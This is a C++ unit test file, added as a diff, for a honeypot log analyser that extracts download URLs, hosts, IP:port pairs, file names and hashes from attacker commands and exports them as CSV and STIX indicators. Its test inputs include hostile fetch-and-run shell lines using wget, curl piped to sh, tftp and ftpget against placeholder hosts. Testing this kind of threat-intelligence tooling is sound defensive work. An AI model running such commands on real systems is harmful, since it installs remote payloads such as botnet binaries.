@@ -1,0 +1,134 @@
+// The indicators analysis: download URLs, hosts, IP:port pairs, file names and hashes from the
+// download tools' syntaxes (through the shell lexer) and from download events, with first/last
+// seen, sessions and source addresses; the CSV export.
+#include <gtest/gtest.h>
+
+#include <set>
+
+#include "analyze/intel/indicator_extractor.h"
+#include "analyze/report/indicators_csv.h"
+#include "analyze/report/intel_report.h"
+#include "analyze/report/stix_bundle.h"
+#include "analyze_test_support.h"
+
+namespace busytrap::analyze {
+namespace {
+
+using intel::IndicatorType;
+
+std::set<std::string> of_type(std::string_view record, IndicatorType type) {
+  intel::IndicatorExtractor extractor;
+  std::vector<intel::Indicator> out;
+  extractor.extract(record, out);
+  std::set<std::string> values;
+  for (const auto& i : out) {
+    if (i.type == type) values.insert(i.value);
+  }
+  return values;
+}
+using Set = std::set<std::string>;
+
+TEST(IntelIndicators, WgetAndCurlSyntaxes) {
+  EXPECT_EQ(of_type("cd /tmp; wget http://h.example/x.sh; sh x.sh", IndicatorType::Url), Set{"http://h.example/x.sh"});
+  EXPECT_EQ(of_type("wget -O - http://1.2.3.4:8080/bins/mips > m; chmod 777 m", IndicatorType::Url),
+            Set{"http://1.2.3.4:8080/bins/mips"});
+  EXPECT_EQ(of_type("wget -O - http://1.2.3.4:8080/bins/mips", IndicatorType::IpPort), Set{"1.2.3.4:8080"});
+  EXPECT_EQ(of_type("wget -O - http://1.2.3.4:8080/bins/mips", IndicatorType::FileName), Set{"mips"});
+  EXPECT_EQ(of_type("/bin/busybox wget 5.6.7.8/a.sh -O a.sh", IndicatorType::Url), Set{"http://5.6.7.8/a.sh"});
+  EXPECT_EQ(of_type("curl -O http://evil.example/p.arm7", IndicatorType::Host), Set{"evil.example"});
+  EXPECT_EQ(of_type("wget -O /tmp/http.bin", IndicatorType::Url), Set{});  // -O's value is not a URL
+  EXPECT_EQ(of_type("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI", IndicatorType::Url), Set{});
+}
+
+TEST(IntelIndicators, TftpAndFtpgetSyntaxes) {
+  EXPECT_EQ(of_type("tftp -g -r mips 9.8.7.6", IndicatorType::Url), Set{"tftp://9.8.7.6/mips"});
+  EXPECT_EQ(of_type("/bin/busybox tftp -r arm7 -g 9.8.7.6 69", IndicatorType::Url), Set{"tftp://9.8.7.6:69/arm7"});
+  EXPECT_EQ(of_type("tftp 9.8.7.6 -c get tftp1.sh", IndicatorType::Url), Set{"tftp://9.8.7.6/tftp1.sh"});
+  EXPECT_EQ(of_type("ftpget -v -u anonymous -p anonymous -P 21 9.8.7.6 ftp1.sh ftp1.sh", IndicatorType::Url),
+            Set{"ftp://9.8.7.6:21/ftp1.sh"});
+  EXPECT_EQ(of_type("ftpget -v -u anonymous -p anonymous -P 21 9.8.7.6 ftp1.sh ftp1.sh", IndicatorType::FileName),
+            Set{"ftp1.sh"});
+  EXPECT_EQ(of_type("tftp -g -r", IndicatorType::Url), Set{});  // incomplete: nothing, no crash
+}
+
+TEST(IntelIndicators, UrlsInsideScriptsAndIpPortWords) {
+  EXPECT_EQ(of_type("sh -c 'cd /tmp; wget http://192.0.2.42/x.sh; sh x.sh'", IndicatorType::Url),
+            Set{"http://192.0.2.42/x.sh"});
+  EXPECT_EQ(of_type("echo \"curl https://a.example/b|sh\" > /tmp/s", IndicatorType::Url), Set{"https://a.example/b"});
+  EXPECT_EQ(of_type("./bot 203.0.113.5:23", IndicatorType::IpPort), Set{"203.0.113.5:23"});
+  EXPECT_EQ(of_type("echo 999.1.1.1:80 1.2.3:4", IndicatorType::IpPort), Set{});
+}
+
+TEST(IntelIndicators, HostileInputIsBounded) {
+  std::string many;
+  for (int i = 0; i < 500; ++i) many += "wget http://h" + std::to_string(i) + ".example/x; ";
+  intel::IndicatorExtractor extractor;
+  std::vector<intel::Indicator> out;
+  extractor.extract(many, out);
+  EXPECT_EQ(out.size(), intel::kMaxIndicatorsPerRecord);
+  out.clear();
+  extractor.extract(std::string("wget 'http://\0\xff\x01unterminated", 28), out);
+  extractor.extract(std::string(100000, ':'), out);
+  SUCCEED();
+}
+
+TEST(IntelIndicators, PipelineCountsSessionsSourcesAndTimesAndExportsCsv) {
+  testing::TempDir dir;
+  auto ev = [](const std::string& id, const std::string& session, const std::string& ts, const std::string& more) {
+    return R"({"eventid":")" + id + R"(","session":")" + session + R"(","timestamp":")" + ts + "\"" + more + "}\n";
+  };
+  const std::string sha(64, 'a');
+  const std::string log =
+      ev("cowrie.session.connect", "s1", "2024-05-01T00:00:00Z", R"(,"src_ip":"192.0.2.1")") +
+      ev("cowrie.command.input", "s1", "2024-05-01T00:00:01Z", R"(,"input":"wget http://203.0.113.9/a.sh")") +
+      ev("cowrie.command.input", "s1", "2024-05-01T00:00:02Z", R"(,"input":"wget http://203.0.113.9/a.sh")") +
+      ev("cowrie.session.file_download", "s1", "2024-05-01T00:00:03Z",
+         R"(,"url":"http://203.0.113.9/a.sh","shasum":")" + sha + "\"") +
+      ev("cowrie.session.closed", "s1", "2024-05-01T00:00:04Z", "") +
+      ev("cowrie.session.connect", "s2", "2024-05-02T00:00:00Z", R"(,"src_ip":"192.0.2.2")") +
+      ev("cowrie.command.input", "s2", "2024-05-02T00:00:01Z", R"(,"input":"tftp -g -r a.sh 203.0.113.9")") +
+      ev("cowrie.session.closed", "s2", "2024-05-02T00:00:04Z", "");
+  const std::string path = dir.file("i.json", log);
+  AnalysisOptions options;
+  options.intel.indicators = true;
+  for (std::size_t chunk : {std::size_t{8} << 20, std::size_t{120}}) {
+    options.chunk_bytes = chunk;
+    Analysis analysis(options);
+    PipelineReport pipeline;
+    std::string error;
+    ASSERT_TRUE(AnalyzePipeline(options).run({path}, analysis, pipeline, error)) << error;
+    const IntelReport report = build_intel_report(analysis.intel(), intel::CredentialTable{}, 0);
+    std::map<std::string, std::map<std::string, std::uint64_t>> tables;
+    for (const auto& t : report.tables) tables[t.id] = testing::as_map(t);
+    EXPECT_EQ(tables["indicators_url"], (std::map<std::string, std::uint64_t>{{"http://203.0.113.9/a.sh", 1},
+                                                                               {"tftp://203.0.113.9/a.sh", 1}}));
+    EXPECT_EQ(tables["indicators_host"], (std::map<std::string, std::uint64_t>{{"203.0.113.9", 2}}));
+    EXPECT_EQ(tables["indicators_file_name"], (std::map<std::string, std::uint64_t>{{"a.sh", 2}}));
+    EXPECT_EQ(tables["indicators_sha256"], (std::map<std::string, std::uint64_t>{{sha, 1}}));
+    const std::string csv = render_indicators_csv(analysis.intel());
+    EXPECT_NE(csv.find("url,http://203.0.113.9/a.sh,2024-05-01T00:00:01.000000Z,2024-05-01T00:00:03.000000Z,3,1,"
+                       "192.0.2.1\n"),
+              std::string::npos)
+        << csv;
+    EXPECT_NE(csv.find("host,203.0.113.9,2024-05-01T00:00:01.000000Z,2024-05-02T00:00:01.000000Z,4,2,"
+                       "192.0.2.1 192.0.2.2\n"),
+              std::string::npos)
+        << csv;
+    EXPECT_EQ(csv.substr(0, csv.find('\n')), "type,value,first_seen,last_seen,occurrences,sessions,source_ips");
+    const std::string stix = render_stix_bundle(analysis.intel());
+    // The url SCO's id is STIX 2.1's deterministic one (checked with Python's uuid.uuid5).
+    EXPECT_NE(stix.find(R"("id":"url--2b46e093-cf58-5cfe-b2d0-1708ef669fa8","value":"http://203.0.113.9/a.sh")"),
+              std::string::npos)
+        << stix;
+    EXPECT_NE(stix.find(R"("pattern":"[file:hashes.'SHA-256' = ')" + sha + R"(']")"), std::string::npos);
+    EXPECT_NE(stix.find(R"("first_observed":"2024-05-01T00:00:01.000000Z","last_observed":"2024-05-02T00:00:01.000000Z")"),
+              std::string::npos);
+  }
+}
+
+TEST(IntelIndicators, UuidV5MatchesRfc4122) {
+  EXPECT_EQ(uuid_v5("6ba7b810-9dad-11d1-80b4-00c04fd430c8", "python.org"), "886313e1-3b8a-5372-9b90-0c9aee199e5d");
+}
+
+}  // namespace
+}  // namespace busytrap::analyze
